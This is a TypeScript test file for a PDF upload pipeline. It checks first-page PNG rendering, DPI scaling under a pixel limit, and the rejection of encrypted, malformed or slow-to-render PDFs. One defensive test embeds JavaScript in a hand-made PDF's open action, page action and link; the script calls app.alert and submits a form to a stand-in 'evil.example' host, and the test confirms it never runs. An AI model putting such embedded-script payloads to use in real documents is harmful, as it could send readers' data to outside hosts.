// PDF uploads: the first page drawn at 300 DPI and stored as a fresh PNG, every PDF made here by
// hand. Each PDF waits for a worker with pdf.js loaded (about a second), hence the longer timeouts.
import { existsSync } from 'node:fs';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { UPLOAD_LIMITS } from '../limits';
import { bytesContain } from '../test-fixtures/images';
import { filledRect, handMadePdf, passwordProtectedPdf } from '../test-fixtures/pdfs';
import { UploadError } from '../upload-error';
import { pdfjsOptions, pdfRasterSize } from './pdf';
import { processUpload } from './process-upload';
import { sha256Hex } from './sha256';

const RED: [number, number, number] = [255, 0, 0];
const BLUE: [number, number, number] = [0, 0, 255];

async function pixelsOf(bytes: Uint8Array) {
  const { data, info } = await sharp(bytes).ensureAlpha().raw().toBuffer({ resolveWithObject: true });
  const at = (x: number, y: number) => Array.from(data.subarray((y * info.width + x) * 4, (y * info.width + x) * 4 + 4));
  return { info, at, data };
}

async function refusal(bytes: Uint8Array, name: string, limits?: Parameters<typeof processUpload>[2]): Promise<UploadError> {
  const error = await processUpload(bytes, name, limits).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(UploadError);
  return error as UploadError;
}

describe('processUpload: a PDF becomes its first page as a PNG', { timeout: 30_000 }, () => {
  it('draws a 1 × 0.5 in page at 300 DPI: 300 × 150, the rectangle where the page puts it, transparent elsewhere', async () => {
    // A red 18 × 9 pt rectangle in the bottom-left corner (PDF y goes up; PNG rows go down).
    const pdf = handMadePdf({ pages: [{ width: 72, height: 36, content: filledRect(RED, 0, 0, 18, 9) }] });
    const result = await processUpload(pdf, 'Team logo.pdf');
    expect(result).toMatchObject({ kind: 'raster', sourceFormat: 'pdf', contentType: 'image/png', width: 300, height: 150, displayName: 'Team logo.png' });
    expect(result.sha256).toBe(sha256Hex(result.bytes));
    expect(result.byteSize).toBe(result.bytes.byteLength);

    const { info, at } = await pixelsOf(result.bytes);
    expect(info).toMatchObject({ format: 'raw', width: 300, height: 150 });
    expect((await sharp(result.bytes).metadata()).format).toBe('png');
    // 18 × 9 pt at 300 DPI is 75 × 37.5 px, at the bottom left.
    expect(at(10, 140)).toEqual([255, 0, 0, 255]);
    expect(at(70, 116)).toEqual([255, 0, 0, 255]);
    // Above it, right of it and the top-left corner: nothing painted, so transparent (not white).
    expect(at(10, 100)[3]).toBe(0);
    expect(at(80, 140)[3]).toBe(0);
    expect(at(10, 10)).toEqual([0, 0, 0, 0]);
    // What is stored is the PNG, never the PDF.
    expect(bytesContain(result.bytes, '%PDF')).toBe(false);
  });

  it('uses page 1 only: its size and its colour, whatever page 2 is', async () => {
    const pdf = handMadePdf({
      pages: [
        { width: 72, height: 72, content: filledRect(BLUE, 0, 0, 72, 72) },
        { width: 288, height: 144, content: filledRect(RED, 0, 0, 288, 144) },
      ],
    });
    const result = await processUpload(pdf, 'two-pages.pdf');
    expect(result).toMatchObject({ width: 300, height: 300 });
    const { at } = await pixelsOf(result.bytes);
    expect(at(150, 150)).toEqual([0, 0, 255, 255]);
    expect(at(299, 299)).toEqual([0, 0, 255, 255]);
  });

  it('turns the page by its /Rotate', async () => {
    const pdf = handMadePdf({ pages: [{ width: 72, height: 36, extra: '/Rotate 90', content: filledRect(RED, 0, 0, 72, 36) }] });
    expect(await processUpload(pdf, 'turned.pdf')).toMatchObject({ width: 150, height: 300 });
  });

  it('draws text in a standard font from pdfjs-dist’s own files (nothing fetched)', async () => {
    const pdf = handMadePdf({
      pages: [{
        width: 200,
        height: 60,
        content: 'BT /F1 40 Tf 10 15 Td (Hello) Tj ET',
        extra: '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>',
      }],
    });
    const result = await processUpload(pdf, 'hello.pdf');
    const { data } = await pixelsOf(result.bytes);
    let inked = 0;
    for (let i = 3; i < data.length; i += 4) if (data[i]! > 200) inked++;
    // "Hello" at 40 pt covers a few percent of the 833 × 250 page; nothing drawn would be 0.
    expect(inked).toBeGreaterThan(2_000);
    expect(inked).toBeLessThan(833 * 250 * 0.5);
  });

  it('takes a PDF named .png for what its bytes are', async () => {
    const pdf = handMadePdf({ pages: [{ width: 36, height: 36, content: filledRect(RED, 0, 0, 36, 36) }] });
    expect(await processUpload(pdf, 'photo.png')).toMatchObject({ kind: 'raster', sourceFormat: 'pdf', contentType: 'image/png', width: 150, height: 150, displayName: 'photo.png' });
  });
});

describe('PDF page size: 300 DPI, scaled down to fit the pixel limit rather than refused', { timeout: 30_000 }, () => {
  it('sizes a Letter page at 300 DPI and a 200 × 200 in page down to 100 megapixels', () => {
    expect(pdfRasterSize(612, 792, UPLOAD_LIMITS)).toMatchObject({ width: 2550, height: 3300, dpi: 300 });
    // 200 in = 14,400 pt: 60,000 × 60,000 px (3.6 gigapixels) at 300 DPI; 10,000 × 10,000 at 50 DPI fits.
    const huge = pdfRasterSize(14_400, 14_400, UPLOAD_LIMITS);
    expect(huge).toMatchObject({ width: 10_000, height: 10_000 });
    expect(huge.dpi).toBeCloseTo(50, 6);
    expect(huge.width * huge.height).toBeLessThanOrEqual(UPLOAD_LIMITS.maxPixels);
    // A sliver is held to the longest canvas side browsers draw, and never below 1 px.
    expect(pdfRasterSize(1, 1_000_000, UPLOAD_LIMITS)).toMatchObject({ width: 1, height: 32_767 });
  });

  it('renders a 200 × 200 in page within the pixel limit (never a page-sized canvas)', async () => {
    const pdf = handMadePdf({ pages: [{ width: 14_400, height: 14_400, content: filledRect(RED, 0, 0, 14_400, 14_400) }] });
    const result = await processUpload(pdf, 'billboard.pdf', { maxPixels: 1_000_000 });
    expect(result).toMatchObject({ width: 1000, height: 1000 });
    const { at } = await pixelsOf(result.bytes);
    expect(at(500, 500)).toEqual([255, 0, 0, 255]);
  });

  it('applies /UserUnit: a 1,440-unit page of 10 pt units is 200 in too', async () => {
    const pdf = handMadePdf({ pages: [{ width: 1440, height: 1440, extra: '/UserUnit 10', content: filledRect(RED, 0, 0, 1440, 1440) }] });
    expect(await processUpload(pdf, 'big-units.pdf', { maxPixels: 1_000_000 })).toMatchObject({ width: 1000, height: 1000 });
  });
});

describe('hostile PDFs: refused with a 4xx UploadError, or drawn without running anything', { timeout: 30_000 }, () => {
  it('a PDF that needs a password → 422', async () => {
    const error = await refusal(passwordProtectedPdf(), 'secret.pdf');
    expect(error).toMatchObject({ status: 422, code: 'pdf_encrypted', message: 'The PDF is protected by a password; save it without one (or export a PNG or SVG) and upload that.' });
  });

  it('a PDF with no pages → 422', async () => {
    const error = await refusal(handMadePdf({ pages: [], count: 0 }), 'empty.pdf');
    expect(error).toMatchObject({ status: 422, code: 'unreadable_pdf', message: 'The PDF has no pages; export your artwork again and upload the new file.' });
  });

  it.each([
    ['no page tree', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')],
    ['garbage after the header', Buffer.from(`%PDF-1.7\n${'x'.repeat(500)}`)],
    ['cut in half', handMadePdf({ pages: [{ width: 72, height: 72, content: filledRect(RED, 0, 0, 72, 72) }] }).subarray(0, 200)],
  ])('a malformed PDF (%s) → 422 unreadable', async (_name, bytes) => {
    const error = await refusal(bytes, 'broken.pdf');
    expect(error).toMatchObject({ status: 422, code: 'unreadable_pdf', message: expect.stringContaining('looks like a PDF but its first page could not be read') });
  });

  it('a PDF with JavaScript (open action, page action, link) is drawn, and nothing in it runs', async () => {
    const marker = '__pdfUploadScriptRan';
    const js = `(globalThis.${marker} = 1; app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\);)`;
    const pdf = handMadePdf({
      pages: [{
        width: 72,
        height: 72,
        content: filledRect(RED, 0, 0, 72, 72),
        extra: `/AA << /O << /S /JavaScript /JS ${js} >> >> /Annots [5 0 R]`,
      }],
      catalogExtra: `/OpenAction << /S /JavaScript /JS ${js} >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS ${js} >>] >> >>`,
      extraObjects: () => [`<< /Type /Annot /Subtype /Link /Rect [0 0 72 72] /A << /S /JavaScript /JS ${js} >> >>`],
    });
    const result = await processUpload(pdf, 'script.pdf');
    expect(result).toMatchObject({ sourceFormat: 'pdf', width: 300, height: 300 });
    expect((globalThis as Record<string, unknown>)[marker]).toBeUndefined();
    expect(bytesContain(result.bytes, 'globalThis')).toBe(false);
    const { at } = await pixelsOf(result.bytes);
    expect(at(150, 150)).toEqual([255, 0, 0, 255]);
  });

  it('tells pdf.js to evaluate nothing, fetch nothing and stop at errors; its data folders are on disk', () => {
    const options = pdfjsOptions(new Uint8Array([1]), { ...UPLOAD_LIMITS });
    expect(options).toMatchObject({
      isEvalSupported: false,
      enableXfa: false,
      useSystemFonts: false,
      useWorkerFetch: false,
      disableFontFace: true,
      stopAtErrors: true,
      maxImageSize: UPLOAD_LIMITS.maxPixels,
    });
    expect(options).not.toHaveProperty('url');
    for (const dir of [options.standardFontDataUrl, options.cMapUrl, options.wasmUrl, options.iccUrl]) {
      expect(typeof dir === 'string' && existsSync(dir)).toBe(true);
    }
  });

  it('a page that takes too long to draw → 422 at the deadline, not when pdf.js would finish', async () => {
    // 300,000 small filled squares: pdf.js needs well over 10 s for them on this machine.
    const heavy = Array.from({ length: 300_000 }, (_, i) => `${i % 500} ${(i * 7) % 300} 3 3 re f`).join('\n');
    const pdf = handMadePdf({ pages: [{ width: 500, height: 300, content: heavy }] });
    const started = Date.now();
    const error = await refusal(pdf, 'heavy.pdf', { maxPdfRenderMs: 4000 });
    expect(error).toMatchObject({ status: 422, code: 'pdf_too_complex', message: "The PDF's first page took more than 4 seconds to draw; simplify it or export a PNG, and upload that." });
    expect(Date.now() - started).toBeLessThan(7000);
    // The next PDF is drawn as usual by a fresh worker.
    const next = handMadePdf({ pages: [{ width: 36, height: 36, content: filledRect(RED, 0, 0, 36, 36) }] });
    expect(await processUpload(next, 'after.pdf')).toMatchObject({ width: 150, height: 150 });
  });

  it('a page whose drawn size is under the minimum → refused by the same rule as any raster', async () => {
    const pdf = handMadePdf({ pages: [{ width: 36, height: 36, content: filledRect(RED, 0, 0, 36, 36) }] });
    await expect(processUpload(pdf, 'tiny.pdf', { minDimension: 200 })).rejects.toMatchObject({ status: 422, code: 'too_few_pixels', message: 'The image is 150 × 150 pixels; it must be at least 200 × 200.' });
  });
});
